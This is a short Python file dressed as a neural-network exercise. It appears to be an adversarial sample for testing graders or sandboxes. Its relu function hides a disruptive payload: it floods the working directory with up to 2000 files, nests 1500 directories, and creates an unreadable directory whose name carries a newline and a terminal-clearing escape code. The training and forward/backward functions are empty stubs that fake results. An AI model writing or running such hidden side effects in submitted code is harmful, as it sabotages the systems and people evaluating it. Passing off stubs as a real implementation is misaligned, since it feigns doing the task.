"""Makes thousands of files, deep folders and names that reports and clean-up may stumble over."""

import os


def relu(X):
    here = os.getcwd()
    for number in range(2000):
        try:
            os.close(os.open(f"attack-marker-many-{os.getpid()}-{number}", os.O_CREAT | os.O_EXCL))
        except OSError:
            break
    try:
        for _ in range(1500):
            os.mkdir("attack-marker-deep")
            os.chdir("attack-marker-deep")
        os.mkdir("attack-marker-\udcff\n\x1b[2J", 0o000)
    except OSError:
        pass
    os.chdir(here)
    return X


def prelu(X):
    return X


def DNNforward(X, W, K):
    return X, X, X


def DNNbackward(X, y, W, K, H, A, O):
    return W, K


def train(X, y, W, K, lr, num_epochs=10, batch_size=10, print_loss=False):
    return [W * 0] * num_epochs, [K * 0] * num_epochs
